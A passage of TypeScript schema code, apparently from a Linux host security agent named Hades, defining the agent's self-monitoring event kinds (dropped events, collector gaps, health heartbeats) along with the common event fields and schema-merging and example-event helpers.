  agent_drop: kind({
    action: 'agent_drop',
    kind: 'metric',
    category: ['host'],
    type: ['info'],
    summary: 'Events were dropped, sampled or aggregated somewhere on the host; counts by place and reason.',
    process: 'none',
    fields: Obj({
      hades: Obj({
        drops: Obj(
          {
            component: Words(['kernel', 'driver', 'pipe', 'agent', 'spool', 'output'], 'Where the events were lost or reduced.'),
            hook: Opt(Str('Kernel hook or event action concerned.', 64)),
            reason: Str('Why, e.g. ringbuf_full, queue_full, rate_limit, aggregated, spool_full, output_refused.', 64),
            count: Count('Events concerned since the previous report.'),
            since: Timestamp('Start of the period the count covers, which ends at @timestamp. For the kernel\'s drops, counted by the driver and learnt from its counters every few seconds, the time the counters of the previous report arrived: an agent held up (stopped, starved of CPU) reports its blind time as one period from before it, not from its late report.'),
          },
          'The drop report.',
        ),
      }),
    }),
    example: { hades: { drops: { component: 'kernel', hook: 'sched_process_exec', reason: 'ringbuf_full', count: 12, since: '2026-11-28T07:59:00.000Z' } } },
  }),
  agent_gap: kind({
    action: 'agent_gap',
    kind: 'event',
    category: ['host'],
    type: ['info'],
    summary: 'A period during which a collector was not running (a crashed and restarted driver or plugin); events in it were not seen.',
    process: 'none',
    fields: Obj({
      hades: Obj({
        gap: Obj(
          {
            component: Str('Driver or plugin name.', 64),
            reason: Str('Why it stopped, e.g. killed by SIGKILL, exit code 1.', 256),
            start: Timestamp('When it stopped.'),
            end: Timestamp('When it was running again.'),
            restarts: Opt(Count('Restarts so far.')),
          },
          'The gap.',
        ),
      }),
    }),
    example: { hades: { gap: { component: 'driver', reason: 'killed by SIGKILL', start: '2026-11-28T08:00:00.000Z', end: '2026-11-28T08:00:00.250Z', restarts: 1 } } },
  }),
  agent_health: kind({
    action: 'agent_health',
    kind: 'metric',
    category: ['host'],
    type: ['info'],
    summary: 'The agent\'s periodic heartbeat: its own and every plugin\'s health and resource use.',
    process: 'none',
    fields: Obj({
      hades: Obj({
        health: Obj(
          {
            version: Str('Agent version.', 32),
            uptime_s: Count('Seconds since the agent started.'),
            cpu_percent: Type.Number({ minimum: 0, description: 'CPU use over the last period, percent of one core.' }),
            memory_rss_bytes: Count('Resident memory.'),
            open_fds: Opt(Count('Open file descriptors.')),
            queue_depth: Opt(Count('Events waiting in memory.')),
            spool_bytes: Opt(Count('Bytes in the disk spool.')),
            events_in: Count('Events received since start.'),
            events_out: Count('Events delivered since start, summed over the outputs (an event two outputs deliver counts twice), with those of the spools\' backlog (events_backlog).'),
            events_backlog: Opt(Count('Events the spooled outputs found in their spools at start, written by the agent\'s previous run and not yet acknowledged: never counted in events_in, they are delivered (events_out) or dropped with the rest.')),
            events_dropped: Count('Events dropped since start (all reasons).'),
            plugins: Opt(
              Type.Array(
                Obj(
                  {
                    name: Str('Plugin name.', 64),
                    version: Opt(Str('Version.', 32)),
                    state: Words(['starting', 'running', 'backoff', 'stopping', 'stopped', 'failed'], 'Supervisor state.'),
                    pid: Opt(Count('Process id.')),
                    restarts: Count('Restarts since the agent started.'),
                    health: Opt(Words(['ok', 'degraded'], 'What the running plugin says of its own health: degraded while it runs without doing all it was configured to do (a honeypot whose decoys could not open). Absent when it says nothing.')),
                    health_detail: Opt(Str('The plugin\'s words on its health, as `1 of 2 decoys listening; not listening: tcp/22 (in_use)`.', 512)),
                    cpu_percent: Opt(Type.Number({ minimum: 0, description: 'CPU percent of one core.' })),
                    memory_rss_bytes: Opt(Count('Resident memory.')),
                  },
                  'One plugin.',
                ),
                { description: 'Plugins.' },
              ),
            ),
          },
          'Health figures.',
        ),
      }),
    }),
    example: { hades: { health: { version: '0.1.0', uptime_s: 3600, cpu_percent: 0.2, memory_rss_bytes: 52428800, events_in: 120000, events_out: 120000, events_dropped: 0, plugins: [{ name: 'driver', state: 'running', pid: 901, restarts: 0 }] } } },
  }),
} as const;

export type EventKinds = typeof eventKinds;
export type EventAction = keyof EventKinds;
export const eventActions = Object.keys(eventKinds) as EventAction[];

/** The fields every event has, whatever its kind. */
export function commonFields(spec: EventKindSpec) {
  const categories = spec.category.map((c) => Type.Literal(c));
  const types = spec.type.map((t) => Type.Literal(t));
  return Obj({
    '@timestamp': Timestamp('When the event happened (UTC, ISO 8601).'),
    event: Obj(
      {
        id: Str('Unique id of the event (per agent); the server drops the duplicates of an agent by it. The agent makes `TIME-PREFIX-SEQUENCE`: the millisecond it made the event in base 36 (9 characters), a random prefix per start, and `event.sequence` in base 36, e.g. `0mx2b9cfl-3f9a2b1c4d5e-1a`.', 64),
        kind: Type.Literal(spec.kind, { description: 'ECS event kind.' }),
        category: Type.Array(Type.Union(categories), { minItems: 1, description: 'ECS categories.' }),
        type: Type.Array(Type.Union(types), { minItems: 1, description: 'ECS types.' }),
        action: Type.Literal(spec.action, { description: 'What happened, one of the actions in this document.' }),
        sequence: Count('Position in the agent\'s stream; increases by one per event from one agent.'),
        outcome: Type.Optional(Words(EVENT_OUTCOMES, 'success or failure, where the action can fail.')),
        count: Type.Optional(Count('Number of occurrences this event stands for when aggregated (high-rate kinds).')),
        ingested: Type.Optional(Timestamp('When the server took it for storing (checked it, just ahead of its commit).')),
      },
      'Event metadata.',
    ),
    host: Obj(
      {
        name: Type.String({ minLength: 1, maxLength: 256, description: 'Host name (never empty).' }),
        hostname: Type.Optional(Str('Host name as the kernel reports it.', 256)),
        id: Type.Optional(Str('Machine id.', 64)),
        ip: Type.Optional(Type.Array(Ip('Address.'), { description: 'Host addresses.' })),
        architecture: Type.Optional(Str('CPU architecture.', 32)),
        os: Type.Optional(Obj({ type: Type.Optional(Str('linux.', 16)), kernel: Type.Optional(Str('Kernel release.', 128)), name: Type.Optional(Str('Distribution.', 128)), version: Type.Optional(Str('Distribution version.', 64)) }, 'Operating system.')),
      },
      'The host the event comes from.',
    ),
    agent: Type.Optional(Obj({ id: Type.Optional(Str('Agent id.', 64)), version: Type.Optional(Str('Agent version.', 32)), type: Type.Optional(Type.Literal('hades', { description: 'Always hades.' })) }, 'The agent that collected it.')),
    hades: Type.Optional(
      Obj({
        backend: Type.Optional(Str('Source of the event: ebpf, cnproc, inventory, logs, honeypot, scanner, agent.', 16)),
        cmdb: Type.Optional(
          Obj(
            {
              owner: Type.Optional(Str('Owner of the host.', 256)),
              business_unit: Type.Optional(Str('Business unit.', 256)),
              environment: Type.Optional(Str('Environment, e.g. production.', 64)),
              tags: Type.Optional(Type.Record(Type.String({ maxLength: 64 }), Type.String({ maxLength: 256 }), { description: 'Other columns of the CMDB row.' })),
            },
            'Host metadata from the CMDB file of the server, added when the event is stored.',
          ),
        ),
      }),
    ),
  });
}

/** Deep-merges object schemas: a field present in both keeps both sets of sub-fields. */
function merge(a: TObject, b: TObject): TObject {
  const properties: Record<string, TSchema> = { ...a.properties };
  for (const [key, schemaB] of Object.entries(b.properties)) {
    const schemaA = properties[key];
    if (schemaA && schemaA['type'] === 'object' && schemaB['type'] === 'object' && 'properties' in schemaA && 'properties' in schemaB) {
      const merged = merge(schemaA as unknown as TObject, schemaB as unknown as TObject);
      const optional = schemaA[OptionalKind] === 'Optional' && schemaB[OptionalKind] === 'Optional';
      properties[key] = optional ? Type.Optional(merged) : merged;
    } else {
      properties[key] = schemaB;
    }
  }
  const description = b.description ?? a.description;
  return Type.Object(properties, { additionalProperties: false, ...(description ? { description } : {}) });
}

function fullSchema(spec: EventKindSpec): TObject {
  let schema: TObject = commonFields(spec);
  if (spec.process !== 'none') {
    const context = spec.process === 'required' ? ProcessContext : Type.Partial(ProcessContext);
    schema = merge(schema, context);
  }
  return merge(schema, spec.fields);
}

/** The complete JSON Schema of each kind, keyed by `event.action`. */
export const eventSchemas: Readonly<Record<EventAction, TObject>> = Object.freeze(
  Object.fromEntries(eventActions.map((a) => [a, fullSchema(eventKinds[a])])) as Record<EventAction, TObject>,
);

// ----- static types -----
type CommonFields = Static<ReturnType<typeof commonFields>>;
type ProcessContextFields = Static<typeof ProcessContext>;
type ProcessPart<P> = P extends 'required' ? ProcessContextFields : P extends 'optional' ? Partial<ProcessContextFields> : unknown;

export type EventOf<A extends EventAction> = CommonFields & { event: { action: A } } & ProcessPart<EventKinds[A]['process']> & Static<EventKinds[A]['fields']>;

/** Any Hades event. Narrow with `isAction(e, 'exec')`. */
export type HadesEvent = { [A in EventAction]: EventOf<A> }[EventAction];

export function isAction<A extends EventAction>(event: HadesEvent, action: A): event is EventOf<A> & HadesEvent {
  return event.event.action === action;
}

/** A complete example event of a kind: the common fields plus the kind's own example. */
export function exampleEvent(action: EventAction): Record<string, unknown> {
  const spec: EventKindSpec = eventKinds[action];
  const { event: extraEvent, ...rest } = spec.example as { event?: Record<string, unknown> };
  return {
    '@timestamp': '2026-11-28T08:00:00.123Z',
    // The shapes the agent gives: an id of its run's random prefix and the sequence in base 36,
    // entity ids of a host key, the pid and the start time in ticks since boot; agent.id is the
    // enrolled agent's (absent from events of `hades events` and of an agent without a server).
    event: { id: '0mx04e0zf-9c1e5b7a20f4-sy', kind: spec.kind, category: [...spec.category], type: [spec.type[0]], action, sequence: 1042, ...extraEvent },
    host: { name: 'web-01', hostname: 'web-01', architecture: 'x64', os: { type: 'linux', kernel: '6.18.0' } },
    agent: { id: 'ag_5f0c2d4e9a1b3c7d', version: '0.1.0', type: 'hades' },
    ...rest,
  };
}

